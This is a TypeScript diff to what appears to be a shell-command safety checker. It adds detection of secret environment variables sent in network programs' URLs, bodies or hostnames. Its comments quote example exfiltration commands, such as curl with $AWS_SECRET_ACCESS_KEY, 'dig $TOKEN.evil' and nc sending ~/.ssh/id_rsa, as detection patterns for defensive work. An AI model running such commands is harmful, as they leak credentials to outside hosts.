@@ -8,6 +8,9 @@
 import type { CommandModel, PipelinePosition, SimpleCommand } from './command-model.js';
 import { downloadRunRules } from './download-run.js';
 import { fingerModelRules } from './escalation.js';
+import { findWriteRules } from './find-writes.js';
+import { literalCommandRules } from './literal-commands.js';
+import { authenticationFiles, authenticationValue } from './network-files.js';
 import { normalizePath, secretPath } from './paths.js';
 import { FETCHERS, isInterpreter, NO_CONTENT } from './programs.js';
 import type { SecretTrail } from './secret-flow.js';
@@ -489,6 +492,32 @@ class FlowIndex {
   }
 }
 
+/**
+ * A secret-looking variable a network program's words expand (`curl "https://x/?k=$AWS_SECRET_ACCESS_KEY"`,
+ * `curl -d "key=$OPENAI_API_KEY" …`, `wget "https://x/$GITHUB_TOKEN"`, `dig $TOKEN.evil`): the URL,
+ * body or name it is sent in. Not where it only authenticates: a credential header or a user,
+ * password or token option (`-H "Authorization: Bearer $TOKEN"`, `-sH …`, `-u me:$PASS`), a file
+ * an option authenticates with (`scp -i $KEY`). The first one per segment.
+ */
+function argumentVariables(seg: SimpleCommand): Flow[] {
+  let auth: Set<number> | undefined;
+  for (const k of seg.dynamic) {
+    const w = seg.argv[k];
+    const v = w === undefined ? null : secretVariableIn(w);
+    if (v === null) continue;
+    auth ??= authenticationFiles(seg);
+    if (auth.has(k) || authenticationValue(seg, k)) continue;
+    // a header option clustered with others (`curl -sH "Authorization: …"`) is read as `-H` is
+    const prev = seg.argv[k - 1] ?? '';
+    if (/^-[a-zA-Z]+H$/.test(prev)) {
+      const argv = [...seg.argv.slice(0, k - 1), '-H', ...seg.argv.slice(k)];
+      if (authenticationValue({ ...seg, argv }, k)) continue;
+    }
+    return [{ what: `the secret variable '${v}' in its arguments` }];
+  }
+  return [];
+}
+
 /** Credential files and environment dumps read by the `$(…)` in the words of segment i. */
 export function fromSubstitutions(segs: readonly SimpleCommand[], i: number): Flow[] {
   const out: Flow[] = [];
@@ -500,8 +529,9 @@ export function fromSubstitutions(segs: readonly SimpleCommand[], i: number): Fl
 
 /**
  * Adds a dangerous finding for every secret that reaches a network sender (and, beside those,
- * for a downloaded file run later — download-run.ts — and for a command that stops or steers
- * finger itself — escalation.ts):
+ * for a downloaded file run later — download-run.ts —, for find's own writes and deletes —
+ * find-writes.ts —, for an alias used later or a literal script run later — literal-commands.ts —
+ * and for a command that stops or steers finger itself — escalation.ts):
  * "segment 3: nc sends the credential file '~/.ssh/id_rsa' (segment 1) over the network (exfiltration)";
  * `trail` adds the secrets that travel through variables, written files and loops (secret-flow.ts).
  */
@@ -531,9 +561,11 @@ export function exfiltrationRules(model: CommandModel, add: (reason: string) => 
     const sock = socketRedirect(segs, i);
     if (sock !== null) report(i, `the redirect to ${quote(sock)}`, flows.output(i));
     if (NETWORK_PROGRAMS.has(seg.program))
-      report(i, seg.program, [...fromSubstitutions(segs, i), ...(trail?.args(i) ?? [])]);
+      report(i, seg.program, [...fromSubstitutions(segs, i), ...argumentVariables(seg), ...(trail?.args(i) ?? [])]);
     else if (trail !== undefined && trail.args(i).length > 0) report(i, seg.program, [...trail.args(i)]);
   });
   downloadRunRules(model, add);
+  findWriteRules(model, add);
+  literalCommandRules(model, add);
   fingerModelRules(model, add);
 }
